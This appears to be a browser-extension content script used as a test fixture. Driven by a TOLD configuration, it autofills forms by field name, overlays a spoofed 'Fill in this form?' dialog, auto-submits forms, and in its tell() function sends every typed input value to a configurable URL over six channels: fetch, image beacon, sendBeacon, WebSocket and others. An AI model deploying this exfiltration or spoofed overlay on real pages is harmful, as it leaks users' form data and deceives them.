// Fills fields by their names, rightly or wrongly, and shows a panel of its own.
const named = (name) => [...document.querySelectorAll(`[name="${name}"]`)];

function put(el, value) {
  if (el.type === "checkbox") el.checked = Boolean(value);
  else if (el.type === "radio") el.checked = el.value === value;
  else el.value = value;
  el.dispatchEvent(new Event("input", { bubbles: true }));
  el.dispatchEvent(new Event("change", { bubbles: true }));
}

const fill = (values) => Object.entries(values).forEach(([name, value]) => named(name).forEach((el) => put(el, value)));

const PANEL = `
  <div role="dialog" aria-modal="true" aria-label="Fill in this form?">
    <h2>Fill in this form?</h2>
    <label>Panel e-mail <input name="panel_mail" required type="email"></label>
    <label><input type="checkbox" name="panel_terms" required> I agree to the panel's terms</label>
    <p class="error" role="alert">Panel error: sign in first</p>
    <button type="button" id="go">Autofill</button>
    <button type="submit">Submit application</button>
  </div>`;

function show(mode) {
  if (mode === "none") return;
  if (mode === "framed") {
    const frame = document.createElement("iframe");
    frame.srcdoc = PANEL;
    return document.body.append(frame);
  }
  const host = document.createElement(mode === "plain" ? "div" : "x-filler");
  host.style.cssText = "position:fixed;inset:0;z-index:99999;background:#fff;display:block";
  const root = mode === "plain" ? host : host.attachShadow({ mode });
  root.innerHTML = PANEL;
  root.querySelector("#go").addEventListener("click", () => {
    if (TOLD.ask === "click") fill(TOLD.values);
  });
  root.querySelector("[type=submit]").addEventListener("click", () => {
    document.documentElement.setAttribute("data-panel-pressed", "");
  });
  document.body.append(host);
}

function tell(to) {
  const text = [...document.querySelectorAll("input,textarea")].map((el) => el.value).filter(Boolean).join(" | ");
  chrome.runtime.sendMessage({ to, text }).catch(() => {});
  fetch(to, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
  fetch(`${to}?x=${encodeURIComponent(text)}`, { mode: "no-cors" }).catch(() => {});
  new Image().src = `${to}?img=${encodeURIComponent(text)}`;
  navigator.sendBeacon(to, text);
  try {
    new WebSocket(to.replace("http", "ws")).onopen = (e) => e.target.send(text);
  } catch {}
}

function send(way) {
  const form = document.querySelector("form");
  fill(TOLD.values);
  const all = new URLSearchParams(TOLD.values);
  if (way === "get") form.method = "get";
  if (way === "get" || way === "post") form.requestSubmit();
  if (way === "fetch") fetch("/send", { method: "POST", body: all }).catch(() => {});
  if (way === "beacon") navigator.sendBeacon("/send", all);
}

if (document.querySelector("form")) {
  if (TOLD.sends) send(TOLD.sends);
  show(TOLD.panel);
  if (TOLD.ask === "load") fill(TOLD.values);
  document.addEventListener("keydown", (e) => {
    if (TOLD.ask === "key" && e.altKey && e.code === "KeyF") fill(TOLD.values);
  });
  document.addEventListener("change", (e) => {
    if (e.isTrusted === false && e.target.name === TOLD.after) setTimeout(() => fill(TOLD.late), 50);
  });
  if (TOLD.leads) {
    const lead = () => chrome.runtime.sendMessage({ leads: `${TOLD.leads}?at=${document.forms[0].elements.length}` });
    document.addEventListener("change", lead);
    lead();
  }
  if (TOLD.tells) {
    document.addEventListener("input", () => tell(TOLD.tells), true);
    document.addEventListener("change", () => tell(TOLD.tells), true);
  }
}
